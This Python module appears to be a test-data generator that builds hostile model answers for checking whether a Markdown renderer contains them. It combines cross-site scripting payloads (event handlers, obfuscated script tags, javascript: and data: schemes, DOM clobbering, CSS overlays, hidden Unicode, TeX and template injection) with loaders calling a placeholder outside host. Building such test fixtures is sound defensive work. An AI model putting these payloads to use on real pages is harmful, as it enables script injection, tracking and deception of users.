"""Model answers that try to get out of their pane: payloads crossed with the contexts that a Markdown renderer has."""

from __future__ import annotations

import random
from itertools import product

_HOST = "http://outside.invalid"
_RUN = "window.escaped=1"
_CONTEXTS = (
    "{}", "before {} after", "**{}**", "*{}*", "~~{}~~", "`{}`", "``{} ` {}``", "# {}", "> {}", ">> - {}", "- {}", "7) {}",
    "    {}", "```\n{}\n```", "```html\n{}\n```", "~~~~js {}\n```\n{}\n```\n~~~~", "```{}\nx\n```", "[{}](x)", "[x]({})",
    "[x](<{}>)", '[x](y "{}")', "![{}]({})", "<{}>", "[x]: {}\n\n[x]", "$ {} $", "${}$", "$$\n{}\n$$", "\\({}\\)", "\\[{}\\]",
    "$\\text{{{}}}$", "$\\href{{{}}}{{x}}$", "|a|b|\n|-|-|\n|{}|{}|", "|{}|\n|:-:|\n|a|b|", "<!-- {} -->", "<![CDATA[{}]]>",
    "<div>\n\n{}\n\n</div>", "</div></div></section></pre>{}", "\\<{}", "&lt;{}&gt;", "- a\n\n  1. {}\n     > {}",
    "{}\n===\n{}\n---", "<think>{}</think> {}",
)  # fmt: skip
_EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onbegin", "onwheel",
    "onpointerenter",
)  # fmt: skip
_TAGS = (
    "img", "svg", "body", "video", "audio", "details", "input", "iframe", "object", "marquee", "style", "math", "select", "a",
    "x-y",
)  # fmt: skip
_LOADERS = (
    "<img src={0}/i.png>", "<img srcset='{0}/a 1x'>", "<iframe src='{0}'></iframe>", "<object data='{0}'></object>",
    "<embed src={0}>", "<link rel=stylesheet href={0}/c.css>", "<link rel=prefetch href={0}>",
    "<script src={0}/s.js></script>", "<video src={0}/v poster={0}/p>", "<audio autoplay src={0}/a>",
    "<svg><image href='{0}/s'/><use href='{0}/u#x'/></svg>", "<style>@import '{0}/x';</style>",
    '<div style="background:url({0}/b)">', "<input type=image src={0}/in>", "<meta http-equiv=refresh content='0;url={0}'>",
    "<base href={0}>", "![i]({0}/m.png)", "![i][r]\n\n[r]: {0}/r.png", "<{0}/auto>", '[l]({0} "t")',
    "<form action={0}><button>go</button></form>", "<math><mtext href='{0}'>m</mtext></math>", "<body background={0}/bg>",
    "<table background={0}/t>", "<picture><source srcset={0}/z></picture>", "\\href{{{0}}}{{x}}",
    "\\includegraphics{{{0}/g}}", "\\url{{{0}}}", "<track src={0}>", "<portal src={0}>", "<a ping={0} href=#>p</a>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "&#106;avascript:{}", "\\u006aavascript:{}",
    "data:text/html,<script>{}</script>", "vbscript:{}", " javascript:{}", "javascript&colon;{}", "\x01javascript:{}",
    "file:///etc/{}", "blob:{}",
)  # fmt: skip
_CLOBBERS = (
    "document", "body", "forms", "cookie", "attributes", "children", "getElementById", "trigger", "props", "element", "app",
    "root",
)  # fmt: skip
_OVERLAYS = (
    "position:fixed;inset:0;z-index:99999", "position:absolute;top:-999px;width:9999px", "margin:-9999px",
    "transform:scale(99)", "float:left;width:200vw", "outline:9999px solid", "box-shadow:0 0 0 9999px red",
    "font-size:9999px",
)  # fmt: skip
_UNICODE = (
    "\u202e", "\u2066", "\u200b", "\u200d", "\u2060", "\ufeff", "\xad", "\u115f", "\u3164", "\U000e0041", "\ufe0f\ufe0f",
    "\u0336" * 9, "\u0300" * 60, "\u2028", "\x85", "\x00", "\x1b[2J", "\x08" * 5, "\ud800", "\uffff", "\ue000", "\xe9", "e\u0301",
    "\U0001f469\u200d\U0001f467", "\u0928\u093f\u200d", "\uff1cscript\uff1e", "\x7f", "\r", "\r\n", "\x0b", "\x0c", "\u2003",
)  # fmt: skip
_TEX = (
    "\\frac{<b>}{x}", "\\text{</math><script>window.escaped=1</script>}", "\\begin{matrix}a&b\\\\c&d\\end{matrix}",
    "\\hspace{-999em}x", "\\phantom{x}y", "\\color{white}x", "\\unicode{x202e}", "\\def\\a{\\a\\a}\\a",
    "x^{" * 30 + "2" + "}" * 30,
    "\\left(\\right", "&#60;script&#62;", "\\rule{99em}{99em}", "\\llap{xxxxxxxx}", "\\style{position:fixed}{x}",
    "\\class{a}{x}", "\\raise999em{x}", "a<b", "\\kern-99em x", "\\require{html}",
)  # fmt: skip
_MARKDOWN = (
    "[" * 60,
    "](" * 30, "*" * 31, "```````", "~~~~~",
    "> " * 40 + "deep",
    "- " * 40 + "deep", "|" * 20,
    "$$$$$$$$$", "\\\\\\\\\\\\\\\\\\", "1. 2) 3. x", "999999999. x", "***a_b__c*d_**", "[a][b][c]", "[^1]\n\n[^1]: note",
    "{{constructor.constructor('window.escaped=1')()}}", "${window.escaped=1}", "&amp;&#65;&copy;&nbsp;&#x202e;",
    "&#0;&#xD800;", "a | b\n--|--\n1 | 2 | 3", "- [ ] task", "http://a_b_c.invalid/*x*", "<>", "</", "<a", "%00",
)  # fmt: skip


def _payloads(rng: random.Random) -> list[str]:
    events = []
    for tag, event in product(_TAGS, _EVENTS):
        space, quote = rng.choice([("", "'"), (" ", '"'), ("\n", ""), ("/", "`")])
        events.append(f"<{tag} {event}{space}={quote}{_RUN}{quote} src=x autofocus open>{tag}</{tag}>")
    scripts = [
        f"<{a}script{b}>{_RUN}</script{c}>"
        for a, b, c in product(["", "/", "\0", " ", "scr<script>ipt "], ["", " x", "/"], ["", " "])
    ]
    schemes = [scheme.format(_RUN) for scheme in _SCHEMES]
    clobbers = [
        f"<{tag} {key}={name}>{name}</{tag}>" for tag, key, name in product(["form", "img", "a"], ["id", "name"], _CLOBBERS)
    ]
    overlays = [
        form.format(css)
        for form, css in product(['<p style="{}">over</p>', "<style>*{{{}}}</style>", "{{: style='{}'}}"], _OVERLAYS)
    ]
    loaders = [form.format(_HOST) for form in _LOADERS]
    hidden = [f"{a}left{b}right{a}" for a, b in product(_UNICODE, rng.sample(_UNICODE, 4))]
    return [*events, *scripts, *schemes, *clobbers, *overlays, *loaders, *hidden, *_TEX, *_MARKDOWN]


def hostile_texts(count: int, seed: int = 0) -> list[str]:
    """`count` distinct texts, every payload at least once: a context filled with one or two payloads, sometimes nested."""
    rng = random.Random(seed)
    payloads = _payloads(rng)
    texts: dict[str, None] = {}
    for index in range(100 * count):
        if len(texts) == count:
            break
        context, filler = rng.choice(_CONTEXTS), payloads[index % len(payloads)]
        if rng.random() < 0.3:
            filler = rng.choice(_CONTEXTS).replace("{{", "{").replace("}}", "}").replace("{}", filler)
        pieces = context.replace("{{", "{").replace("}}", "}").split("{}")
        text = pieces[0] + "".join((filler if i == 0 else rng.choice(payloads)) + piece for i, piece in enumerate(pieces[1:]))
        texts[text] = None
    return list(texts)
